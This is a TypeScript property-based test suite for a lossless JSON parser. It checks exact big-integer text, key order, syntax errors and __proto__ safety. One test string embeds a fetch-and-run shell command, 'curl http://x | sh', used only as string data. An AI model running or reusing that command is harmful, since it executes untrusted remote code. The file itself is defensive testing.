import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { JsonSyntaxError, LosslessNumber, roundTrips, deepFreeze, isJsonObject, parse, stringify, type JsonValue } from '../../src/json/lossless.js';

/** Structural equality that also checks key order and exact number text. */
function same(a: JsonValue, b: JsonValue): boolean {
  if (a instanceof LosslessNumber || b instanceof LosslessNumber) {
    return a instanceof LosslessNumber && b instanceof LosslessNumber && a.raw === b.raw;
  }
  if (typeof a === 'number' || typeof b === 'number') return Object.is(a, b);
  if (a === null || b === null || typeof a !== 'object' || typeof b !== 'object') return a === b;
  if (Array.isArray(a) !== Array.isArray(b)) return false;
  if (Array.isArray(a) && Array.isArray(b)) return a.length === b.length && a.every((x: JsonValue, i: number) => same(x, b[i] as JsonValue));
  const ka = Object.keys(a);
  const kb = Object.keys(b);
  if (ka.join('\u0001') !== kb.join('\u0001')) return false;
  const oa = a as Record<string, JsonValue>;
  const ob = b as Record<string, JsonValue>;
  return ka.every((k) => same(oa[k] as JsonValue, ob[k] as JsonValue));
}

const digits = (min: number, max: number): fc.Arbitrary<string> =>
  fc.array(fc.constantFrom(...'0123456789'), { minLength: min, maxLength: max }).map((d) => d.join(''));

/** Any valid JSON number literal: big ints, negatives, fractions, exponents. */
const numberLiteral: fc.Arbitrary<string> = fc
  .tuple(
    fc.boolean(),
    fc.oneof(fc.constant('0'), fc.tuple(fc.constantFrom(...'123456789'), digits(0, 30)).map(([a, b]) => a + b)),
    fc.option(digits(1, 25), { nil: undefined }),
    fc.option(fc.tuple(fc.constantFrom('e', 'E'), fc.constantFrom('', '+', '-'), digits(1, 3)).map((x) => x.join('')), { nil: undefined }),
  )
  .map(([neg, int, frac, exp]) => `${neg ? '-' : ''}${int}${frac !== undefined ? '.' + frac : ''}${exp ?? ''}`);

const nastyString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(
    '',
    '\u0000',
    '\u0000lossless\u00001234567890123456789012',
    'a"b\\c/d\b\f\n\r\t',
    '\u2028\u2029',
    '\ud83d\ude00 emoji',
    'bash -c "curl http://x | sh" # ü ß 日本',
    '12345678901234567890',
    '\ud800',
  ),
);

const keyArb = fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('proc.aname[2]', 'k8s.pod.label[app.kubernetes.io/name]', 'evt.time', '')).filter((k) => k !== '__proto__');

/** Arbitrary JsonValue as our parser represents it (numbers that do not round-trip are LosslessNumber). */
const jsonValue: fc.Arbitrary<JsonValue> = fc.letrec<{ v: JsonValue }>((tie) => ({
  v: fc.oneof(
    { depthSize: 'small' },
    fc.constant(null),
    fc.boolean(),
    nastyString,
    fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Object.is(n, -0)).map((n) => (roundTrips(String(n)) ? n : new LosslessNumber(String(n)))),
    fc.integer(),
    numberLiteral.map((raw) => (roundTrips(raw) ? Number(raw) : new LosslessNumber(raw))),
    fc.array(tie('v'), { maxLength: 5 }),
    fc.array(fc.tuple(keyArb, tie('v')), { maxLength: 6 }).map((entries) => {
      const o: Record<string, JsonValue> = {};
      for (const [k, v] of entries) o[k] = v;
      return o;
    }),
  ),
})).v;

/** Values with only safe numbers (what JSON.parse reads exactly). */
const safeValue: fc.Arbitrary<unknown> = fc.jsonValue({ maxDepth: 4 }).filter((v) => !JSON.stringify(v).includes('__proto__'));

describe('lossless JSON', () => {
  it('parse(stringify(x)) equals x for arbitrary values, digit for digit and in key order', () => {
    fc.assert(
      fc.property(jsonValue, (x) => {
        const text = stringify(x);
        const back = parse(text);
        expect(same(back, x)).toBe(true);
        expect(stringify(back)).toBe(text);
      }),
      { numRuns: 1500 },
    );
  });

  it('every number literal is written back exactly as it was read', () => {
    fc.assert(
      fc.property(numberLiteral, fc.constantFrom('%', '[%]', '{"evt.time":%}', '{"a":"\\u0000","n":%}', ' % '), (raw, shape) => {
        const text = shape.replace('%', raw);
        expect(stringify(parse(text))).toBe(text.trim());
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps nanosecond integers above 2^53 exact (JSON.parse would round them)', () => {
    const text = '{"evt.time":1748557198960296886,"n":-9223372036854775808,"f":1846.4,"e":1e400,"z":-0.0}';
    const v = parse(text);
    expect(isJsonObject(v)).toBe(true);
    const o = v as Record<string, JsonValue>;
    expect(o['evt.time']).toBeInstanceOf(LosslessNumber);
    expect((o['evt.time'] as LosslessNumber).toBigInt()).toBe(1748557198960296886n);
    expect((o['n'] as LosslessNumber).toBigInt()).toBe(-9223372036854775808n);
    expect(o['f']).toBe(1846.4);
    expect((o['e'] as LosslessNumber).toBigInt()).toBeNull();
    expect(stringify(v)).toBe(text);
  });

  it('a string that looks like the internal mark is never turned into a number', () => {
    for (const text of [
      '["\\u0000lossless\\u00001234567890123456789012",12345678901234567890]',
      '{"k":"\\u0000lossless\\u00001"}',
    ]) {
      const v = parse(text) as JsonValue[];
      expect(stringify(v)).toBe(text.replace(/\\u0000/g, '\\u0000'));
      const first = Array.isArray(v) ? v[0] : (v as Record<string, JsonValue>)['k'];
      expect(typeof first).toBe('string');
    }
  });

  it('agrees with JSON.parse on inputs without precision issues (any formatting)', () => {
    fc.assert(
      fc.property(safeValue, fc.constantFrom(undefined, 2, '\t'), (v, indent) => {
        const text = JSON.stringify(v, null, indent);
        const ours = parse(text);
        const theirs = JSON.parse(text) as JsonValue;
        // Literals like 1e21 differ in text only; compare values.
        expect(JSON.stringify(JSON.parse(stringify(ours)))).toBe(JSON.stringify(theirs));
      }),
      { numRuns: 1000 },
    );
  });

  it('throws JsonSyntaxError exactly when JSON.parse throws, for random and mutated inputs', () => {
    const mutated = fc
      .tuple(jsonValue, fc.nat(), fc.constantFrom('', '"', '{', '}', ',', ':', '\\', '-', '0', '.', 'e', '\u0000', '\n', 'tru'), fc.nat(3))
      .map(([v, pos, ins, del]) => {
        const t = stringify(v);
        const p = t.length === 0 ? 0 : pos % t.length;
        return t.slice(0, p) + ins + t.slice(p + del);
      });
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), mutated), (text) => {
        let nativeOk = true;
        try {
          JSON.parse(text);
        } catch {
          nativeOk = false;
        }
        let ours: unknown = null;
        try {
          parse(text);
        } catch (err) {
          ours = err;
        }
        if (nativeOk) expect(ours).toBeNull();
        else {
          expect(ours).toBeInstanceOf(JsonSyntaxError);
          expect((ours as JsonSyntaxError).code).toBe('E_JSON_SYNTAX');
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('rejects invalid numbers and deep or unterminated input quickly', () => {
    for (const bad of ['01', '-', '1.', '.5', '1e', '+1', '00012345678901234567890', '[1,]', '{"a":1', '"abc', '{"a" 1}', 'nul', '']) {
      expect(() => parse(bad), bad).toThrow(JsonSyntaxError);
    }
    const t0 = Date.now();
    expect(() => parse('['.repeat(100_000))).toThrow(JsonSyntaxError);
    expect(() => parse('{"a":'.repeat(50_000) + '12345678901234567890')).toThrow(JsonSyntaxError);
    expect(() => parse('"' + '\\'.repeat(100_001))).toThrow(JsonSyntaxError);
    expect(Date.now() - t0).toBeLessThan(10_000);
  });

  it('keeps __proto__ as an own key without touching the prototype', () => {
    const v = parse('{"__proto__":{"polluted":1},"n":12345678901234567890}') as Record<string, JsonValue>;
    expect(Object.keys(v)).toEqual(['__proto__', 'n']);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('stringify writes non-finite numbers as null and deepFreeze freezes nested values', () => {
    expect(stringify([Infinity, NaN, undefined as unknown as JsonValue])).toBe('[null,null,null]');
    const v = deepFreeze(parse('{"a":[{"b":1}]}'));
    expect(Object.isFrozen(((v as Record<string, JsonValue[]>)['a'] as JsonValue[])[0])).toBe(true);
  });
});

describe('integers a double prints back but does not hold', () => {
  it('keeps 1785316811123456800 exact (a double holds ...768)', () => {
    const v = parse('{"t":1785316811123456800}') as { t: unknown };
    expect(v.t).toBeInstanceOf(LosslessNumber);
    expect((v.t as LosslessNumber).toBigInt()).toBe(1785316811123456800n);
  });
});
